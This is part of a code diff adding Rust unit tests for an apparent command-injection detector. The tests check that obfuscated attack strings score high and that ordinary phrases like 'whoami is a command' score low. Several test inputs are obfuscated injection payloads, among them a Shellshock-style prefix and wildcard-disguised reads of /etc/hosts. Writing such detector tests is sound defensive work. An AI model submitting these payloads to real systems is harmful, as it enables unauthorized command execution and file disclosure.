+            "x; c\\\\a\\\\t /e\\\\tc/hosts",
+            "().{.:;.};.echo hi",
+            "q=1 /???/?at /e??/h?st?",
+        ] {
+            assert!(score(Part::QueryValue, a) >= 5, "{a}: {:?}", rules(Part::QueryValue, a));
+        }
+    }
+
+    #[test]
     fn benign() {
         for b in [
             "Tom & Jerry",
@@ -728,9 +1022,27 @@ mod tests {
             "If exist, great",
             "LC & NC - Boys038-XL.jpg",
             "&uddg=http://www.example.com/blog/tags/zsh",
+            // What a diagnostics form expects, and words that are only English.
+            "ping 10.0.0.1",
+            "nslookup example.com",
+            "which one is better",
+            "which python version should I use",
+            "sleep 8 hours a night",
+            "net use of funds",
+            "dir",
+            "id",
+            "C:\\new\\test\\readme.txt",
+            "/api/*/items",
+            "uname",
+            "whoami is a command",
+            "what? /a?b/c",
         ] {
             assert!(score(Part::QueryValue, b) < 5, "{b}: {:?}", rules(Part::QueryValue, b));
         }
+        // A parameter called `whoami` is not a command.
+        let mut out = Vec::new();
+        scan(&Value { part: Part::ArgName, name: "whoami", text: "whoami" }, &mut out);
+        assert!(out.is_empty(), "{out:?}");
         // Prose in a body with a command word after a semicolon stays below PL1.
         let text = "Please check the log files carefully; cat /var/log/app.log shows the error we discussed yesterday";
         let mut out = Vec::new();
